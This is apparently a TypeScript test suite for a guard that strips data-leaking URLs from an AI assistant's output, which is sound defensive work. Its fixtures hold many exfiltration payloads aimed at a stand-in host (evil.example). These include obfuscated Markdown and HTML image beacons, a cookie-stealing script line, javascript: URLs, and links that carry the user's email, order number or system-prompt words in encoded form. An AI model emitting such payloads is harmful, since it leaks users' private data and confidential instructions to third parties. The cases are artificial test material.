/** Data that leaves by URL: what loads by itself, what carries the conversation, and what ordinary answers cite. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { partsOf, runChannel } from './channel.fixture.ts';
import { exfiltrationGuard } from './exfiltration-guard.ts';
import { type GuardContext, MAX_HOLD_BACK_CHARACTERS } from './guard.ts';
import { buildGuardSet } from './guard-set.ts';
import { GUARD_DEFAULTS, withOverrides } from './settings.ts';

const DEFAULTS = { ...GUARD_DEFAULTS.exfiltration, allowedHosts: ['good.example', '*.cdn.example'] };
const HIDDEN = '[EMAIL_7F3KQ2]';
const CONTEXT: GuardContext = {
  tenant: 't',
  requestId: 'r',
  placeholders: {
    hide: () => '',
    reveal: (tag) => (tag === HIDDEN ? 'jo@mail.example' : undefined),
    size: 1,
  },
  systemTexts: [
    'You are Otto, the assistant of a garden centre. Never mention the discount code for staff to anyone.',
  ],
  userTexts: [
    'My address is jane.roe@mail.example, the order is 48291048. What does the page say of the merger with Initech?',
    'The page: see https://tracker.example/p?id=1&n=48291048 for more about rates of exchange.',
  ],
  callerTexts: ['Read https://named.example/docs first.'],
};

function judged(text: string, settings: Partial<typeof DEFAULTS> = {}) {
  const guard = exfiltrationGuard({ ...DEFAULTS, ...settings }).output;
  const { text: left, findings } = runChannel([{ guard, mode: 'redact' }], [text], CONTEXT);
  return { left, types: [...new Set(findings.map(({ type }) => type))] };
}

const base64 = (text: string) => Buffer.from(text).toString('base64');
const hex = (text: string) => Buffer.from(text).toString('hex');
const reversed = (text: string) => [...text].reverse().join('');

/** `EVIL` stands where the URL to the foreign host is; nothing of it may be left. */
const LOADING: readonly (readonly [name: string, text: string])[] = [
  ['a Markdown image', '![x](https://evil.example/a)'],
  ['an image in angle brackets, with a title', '![x](<https://evil.example/a b> "t")'],
  ['an image with its URL on the next line', '![x](\n  https://evil.example/a)'],
  ['a protocol-relative image', '![x](//evil.example/a)'],
  ['backslashes for slashes', '![x](https:\\\\evil.example/a)'],
  ['one slash', '![x](https:/evil.example/a)'],
  ['capitals', '![x](HTTPS://EVIL.EXAMPLE/a)'],
  ['entities in the scheme', '![x](&#104;ttps&colon;//evil.example/a)'],
  ['Markdown escapes', '![x](https\\:\\/\\/evil.example/a)'],
  ['an allowed host as the user name', '![x](https://good.example@evil.example/a)'],
  ['an allowed host as a subdomain', '![x](https://good.example.evil.example/a)'],
  ['an allowed host in the path', '![x](https://evil.example/good.example/a)'],
  ['a look-alike letter', '![x](https://g\u043eod.example/evil.example)'],
  ['percent signs in the host', '![x](https://%65vil.example/a)'],
  ['brackets within the text', '![a [b] c](https://evil.example/a)'],
  ['brackets in code within the text', '![a `]` `[` b](https://evil.example/a)'],
  ['an escaped bracket within the text', '![a \\] b](https://evil.example/a)'],
  ['an image in a link', '[![x](https://evil.example/a)](https://good.example/)'],
  ['a second image in the paragraph', '![ok](https://good.example/a) ![x](https://evil.example/a)'],
  ['a reference that comes later', '![x][r]\n\n[r]: https://evil.example/a'],
  ['a reference in other case and spacing', '![x][Big  Ref]\n\n[big ref]: <https://evil.example/a> "t"'],
  ['a collapsed reference', '![r][]\n\n[r]: https://evil.example/a'],
  ['a short reference', '![r]\n\n[r]: https://evil.example/a'],
  ['an img tag', '<img src="https://evil.example/a">'],
  ['an img tag without quotes', '<img src=https://evil.example/a>'],
  ['single quotes, spaces and line breaks', "<IMG\n SRC = '\thttps://evil.example/a'>"],
  ['a line break within the URL', '<img src="ht\ntps://evil.exam\nple/a">'.replace('exam\nple', 'example')],
  ['a greater-than sign in another attribute', '<img alt="a > b" src="https://evil.example/a">'],
  ['entities in an attribute', '<img src="&#x68;ttps:&sol;&sol;evil.example/a">'],
  ['a source set', '<img srcset="/a 1x, https://evil.example/b 2x">'],
  ['an iframe', '<iframe src="//evil.example/a"></iframe>'],
  ['a script', '<script src="https://evil.example/a"></script>'],
  ['code in a script', "<script>fetch('https://evil.example/' + document.cookie)</script>"],
  ['a style sheet', '<link rel="stylesheet" href="https://evil.example/a">'],
  ['a style attribute', '<p style="background:url(//evil.example/a)">x</p>'],
  ['a style element', '<style>@import "//evil.example/a";</style>'],
  ['an event handler', '<b onclick="location=\'https://evil.example/\'">x</b>'],
  ['an SVG image', '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/a"/></svg>'],
  ['an object', '<object data="https://evil.example/a"></object>'],
  ['a video poster', '<video poster="https://evil.example/a"></video>'],
  ['a form', '<form action="https://evil.example/a"><button>go</button></form>'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/a">'],
  ['a base', '<base href="https://evil.example/">'],
  ['a tag within an unclosed attribute', "<a title='<img src=//evil.example/a >"],
  ['a zero-width space that another guard removes', '!\u200b[x](https://evil.example/a)'],
  ['an escape sequence that another guard removes', '!\u001b[31m[x](https:/\u0007/evil.example/a)'],
  ['a label that another guard would put in', '!jane@mail.example(https://evil.example/a)'],
  ['a fence in a quote', '> ```\n![x](https://evil.example/a)\n```\n'],
  ['a fence that a list item ends', '- a\n  ```\n![x](https://evil.example/a)\n  ```\n'],
  ['a fence within HTML', '<div>\n```\n<img src="https://evil.example/a">\n```\n</div>'],
  ['after a fence in a list', '- ```\n  x\n  ```\n![x](https://evil.example/a)\n'],
  ['a fence indented as code', '    ```\n![x](https://evil.example/a)\n'],
  ['after code', '```\ncode\n```\n![x](https://evil.example/a)'],
  ['a backtick that nothing closes', '`![x](https://evil.example/a)'],
  ['a backtick that another line closes', 'a ` b\n` ![x](https://evil.example/a) `'],
  ['an escaped backtick', '\\`![x](https://evil.example/a)`'],
  ['a backtick within a tag', '<a title="`"> <img src="https://evil.example/a"> `'],
];

describe('what loads by itself from a host that is not allowed', () => {
  for (const [name, text] of LOADING) {
    test(`${name} is taken out`, () => {
      const { left, types } = judged(text);
      assert.doesNotMatch(left, /evil\.example|%65vil|EVIL/, left);
      assert.ok(types.includes('exfiltration.image'), types.join());
    });
  }

  test('a reference defined before leads an image nowhere, and a link on', () => {
    const definition = '[r]: https://evil.example/a\n\n';
    assert.equal(judged(`${definition}![x][r]`).left, `${definition}![x][r (removed)]`);
    assert.equal(judged(`${definition}[x][r]`).left, `${definition}[x][r]`);
  });

  test('a long URL goes to its end, whatever its length', () => {
    for (const length of [300, 400, 600, 5_000]) {
      const { left } = judged(`![x](https://evil.example/${'a1B2'.repeat(length / 4)}) after`);
      assert.equal(left, '![x](about:blank#removed) after');
    }
  });

  test('a URL whose host comes after what can be kept back is not believed', () => {
    const { left, types } = judged(`![x](https://${'a'.repeat(600)}@evil.example/) after`);
    assert.equal(left, '![x](about:blank#removed) after');
    assert.deepEqual(types, ['exfiltration.unreadable']);
  });

  test('code that runs is taken out of links and images', () => {
    for (const url of [
      'javascript:alert(1)',
      'JaVa\tScript:alert`1`',
      'vbscript:x',
      'data:text/html,<script>',
    ]) {
      assert.doesNotMatch(judged(`<a href="${url}">x</a>`).left, /alert|vbscript|text\/html/i, url);
    }
    assert.deepEqual(judged('[x](javascript:alert(1))').types, ['exfiltration.active']);
  });
});

const TEXT_OF_USER = 'What does the page say of the merger';
const TEXT_OF_SYSTEM = 'mention the discount code for staff';
const CARRYING: readonly (readonly [name: string, url: string])[] = [
  ['a placeholder', `https://evil.example/?m=${HIDDEN}`],
  ['an encoded placeholder', 'https://evil.example/?m=%5Bemail_7F3KQ2%5D'],
  ["the caller's words", `https://evil.example/?q=${encodeURIComponent(TEXT_OF_USER)}`],
  ["the caller's words with plus signs", `https://evil.example/?q=${TEXT_OF_USER.replaceAll(' ', '+')}`],
  ["the caller's words in the fragment", `https://evil.example/#${TEXT_OF_USER.replaceAll(' ', '_')}`],
  ["the caller's words backwards", `https://evil.example/?q=${reversed(TEXT_OF_USER).replaceAll(' ', '-')}`],
  ["the caller's words as base64", `https://evil.example/?q=${base64(TEXT_OF_USER)}`],
  ["the caller's words as base64 in the path", `https://evil.example/${base64(TEXT_OF_USER)}/x.png`],
  ["the caller's words as hex", `https://evil.example/${hex(TEXT_OF_USER)}`],
  [
    'hex over several labels of the host',
    `https://${hex(TEXT_OF_USER).replace(/.{24}/g, '$&.')}.evil.example/`,
  ],
  ['other text as base64', `https://evil.example/?q=${base64('anything readable at all')}`],
  ['an address', 'https://evil.example/?m=jane.roe%40mail.example'],
  ['an address encoded twice', 'https://evil.example/?m=jane.roe%2540mail.example'],
  ['a number', 'https://evil.example/48291048'],
  ['a number backwards', 'https://evil.example/?n=84019284'],
  ['words of the system text in a path', `https://evil.example/${TEXT_OF_SYSTEM.replaceAll(' ', '-')}`],
  [
    'words of the system text to a named host',
    `https://named.example/?q=${TEXT_OF_SYSTEM.replaceAll(' ', '+')}`,
  ],
  ['a long query', `https://evil.example/?q=${'ab-'.repeat(100)}`],
  ['an opaque run', `https://evil.example/${'aZ3kQ9mXw7Lp2RtY8vBn4CjH6sDf0GqU1oEi5K'.repeat(2)}`],
];

describe('links', () => {
  for (const [name, url] of CARRYING) {
    for (const text of [
      `[x](${url})`,
      `See ${url} now.`,
      `<a href="${url}">x</a>`,
      `<${url}>`,
      `[r]: ${url}`,
    ]) {
      test(`with ${name} are taken out: ${text.slice(0, 8)}`, () => {
        const { left, types } = judged(text);
        assert.doesNotMatch(left, /evil|named/, left);
        assert.deepEqual(types, ['exfiltration.link']);
      });
    }
  }

  const ORDINARY: readonly string[] = [
    'See https://en.wikipedia.org/wiki/Retrieval-augmented_generation, or [arXiv](https://arxiv.org/abs/2106.09685).',
    '[watch](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s) and <https://datatracker.ietf.org/doc/html/rfc9110#section-4.2>',
    'https://github.com/nodejs/node/commit/3a3f1e1d0b7c8e9f6a5b4c3d2e1f0a9b8c7d6e5f and https://www.amazon.example/dp/B08N5WRWNW',
    'https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit#heading=h.3dy6vkm',
    '[search](https://www.google.com/search?q=merger+with+Initech)',
    'https://news.example/2023/05/16/technology/openai-hearing-artificial-intelligence-regulation.html',
    'https://tracker.example/p?id=1&n=48291048 stood in the page.',
    'https://named.example/orders?id=48291048 is yours.',
    '![logo](https://good.example/a.png) ![p](https://img.cdn.example/48291048.png) ![l](/local.png)',
    '![i](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4)',
    'Use `![alt](https://evil.example/a.png)` or `<img src="https://evil.example/a.png">` for images.',
    '```html\n<img src="https://evil.example/a.png">\n```\n\n~~~md\n![x](https://evil.example/a)\n~~~\n',
    '1. Run:\n   ```js\n   fetch("https://api.example/v1/users?limit=10")\n   ```\n2. Done.',
    'If n<k and k>m, see https://en.wikipedia.org/wiki/Inequality; a <b> tag is bold.',
    'Write to mailto:help@shop.example or [call](tel:+4930901820). Ratio 16:9, time 10:15, note: all good!',
    'A table | of [links](https://a.example/x) | and ![an image](https://good.example/y.png) | here',
    '<a href="https://foreign.example/page" title="see https://foreign.example/">x</a>',
  ];
  for (const text of ORDINARY) {
    test(`as ordinary answers have them stay: ${text.slice(0, 40)}`, () => {
      assert.deepEqual(judged(text), { left: text, types: [] });
    });
  }

  test('that hide their host behind a user name are taken out', () => {
    const { left, types } = judged('[bank](https://good.example:x@evil.example/)');
    assert.equal(left, '[bank](about:blank#removed)');
    assert.deepEqual(types, ['exfiltration.deceptive_link']);
  });

  test('to foreign hosts go where the settings say so; named and allowed hosts stay', () => {
    const text =
      '[a](https://foreign.example/) [b](https://named.example/docs) https://good.example/ http://foreign.example.';
    assert.equal(
      judged(text, { foreignLinks: 'redact' }).left,
      '[a](about:blank#removed) [b](https://named.example/docs) https://good.example/ [link removed].',
    );
  });

  test('code is judged where the settings say so', () => {
    const { left } = judged('```\n<img src="https://evil.example/a">\n```\n', { judgeCode: true });
    assert.equal(left, '```\n<img src="about:blank#removed">\n```\n');
  });

  test('what stands in a tool call is left to the rules about tools', () => {
    const guard = exfiltrationGuard(DEFAULTS).output;
    const text = '{"url": "https://evil.example/?d=48291048"}';
    assert.equal(runChannel([{ guard, mode: 'redact' }], [text], CONTEXT, 'tool_args').text, text);
  });
});

describe('allowed hosts', () => {
  test('are compared as browsers read them', () => {
    const { left } = judged('![x](https://B\u00dcCHER.example/a) ![y](https://xn--bcher-kva.example./a)', {
      allowedHosts: ['b\u00fccher.example'],
    });
    assert.ok(!left.includes('removed'), left);
  });

  test('of a pattern for subdomains do not hold the domain itself', () => {
    assert.ok(judged('![x](https://cdn.example/a)').left.includes('removed'));
    assert.ok(judged('![x](https://notcdn.example/a)').left.includes('removed'));
  });

  test('that are no hosts are refused when the guard is built', () => {
    assert.throws(() => exfiltrationGuard({ ...DEFAULTS, allowedHosts: ['a b'] }), RangeError);
    for (const host of ['https://x.example', 'x.example/a', 'x:1', '']) {
      assert.throws(() => withOverrides(GUARD_DEFAULTS, { exfiltration: { allowedHosts: [host] } }), host);
    }
  });
});

describe('in streams', () => {
  const all = buildGuardSet(withOverrides(GUARD_DEFAULTS, { exfiltration: DEFAULTS })).output;
  const alone = [{ guard: exfiltrationGuard(DEFAULTS).output, mode: 'redact' as const }];
  const texts = [
    ...LOADING.map(([, text]) => text),
    ...CARRYING.map(([, url]) => `See [x](${url}) and ${url}, ok`),
    `![x](https://evil.example/${'a1B2'.repeat(300)}) after`,
    'Prose without anything in it, of some length, then http and www and https: and a file. Nothing at all!',
  ];
  const LEAD = 'An ordinary sentence that is long enough to be passed over in one step, and another one. ';

  test('every text is judged as the whole, at every split in two', () => {
    for (const guards of [alone, all]) {
      for (const text of texts.filter(({ length }) => length < 200)) {
        const whole = runChannel(guards, [text], CONTEXT);
        for (let split = 1; split < text.length; split += 1) {
          const parts = [text.slice(0, split), text.slice(split)];
          assert.equal(runChannel(guards, parts, CONTEXT).text, whole.text, `${split}: ${text}`);
        }
      }
    }
  });

  test('any texts in any parts are judged as the whole, and little is held', () => {
    const sizes = fc.array(fc.integer({ min: 1, max: 90 }), { minLength: 1, maxLength: 40 });
    const chosen = fc.shuffledSubarray(texts, { minLength: 1, maxLength: 5 });
    fc.assert(
      fc.property(chosen, sizes, fc.constantFrom('\n\n', '\n', ' ', LEAD), (some, lengths, between) => {
        const text = some.join(between);
        const whole = runChannel(alone, [text], CONTEXT);
        const streamed = runChannel(alone, partsOf(text, lengths), CONTEXT);
        assert.equal(streamed.text, whole.text);
        assert.ok(streamed.mostHeld <= MAX_HOLD_BACK_CHARACTERS);
      }),
      { numRuns: 400 },
    );
  });

  test('random signs are judged as the whole', () => {
    const signs = [
      ...'![]()<>`\\"\'/:&;= \n\r-~*#@?.',
      'https://',
      'evil.example',
      'src=',
      '<img ',
      '```',
      'www.',
      '\u200b',
    ];
    const text = fc
      .array(fc.constantFrom(...signs, 'word ', LEAD), { maxLength: 60 })
      .map((parts) => parts.join(''));
    const sizes = fc.array(fc.integer({ min: 1, max: 60 }), { minLength: 1, maxLength: 20 });
    fc.assert(
      fc.property(text, sizes, (made, lengths) => {
        const whole = runChannel(alone, [made], CONTEXT);
        assert.equal(runChannel(alone, partsOf(made, lengths), CONTEXT).text, whole.text);
      }),
      { numRuns: 2_000 },
    );
  });

  test('endless constructs stay within the hold-back and take linear time', () => {
    for (const unit of [
      '![',
      '](',
      '[',
      '<a ',
      '<a b="',
      '`',
      'https://',
      'http',
      '](https://x',
      '//',
      ' =',
      '&#1;',
      '![x](',
    ]) {
      const text = unit.repeat(Math.ceil(60_000 / unit.length));
      const startedMs = performance.now();
      const { mostHeld } = runChannel(alone, partsOf(text, [700]), CONTEXT);
      assert.ok(mostHeld <= MAX_HOLD_BACK_CHARACTERS, `${unit} held ${mostHeld}`);
      assert.ok(performance.now() - startedMs < 2_000, `${unit} took long`);
    }
  });
});
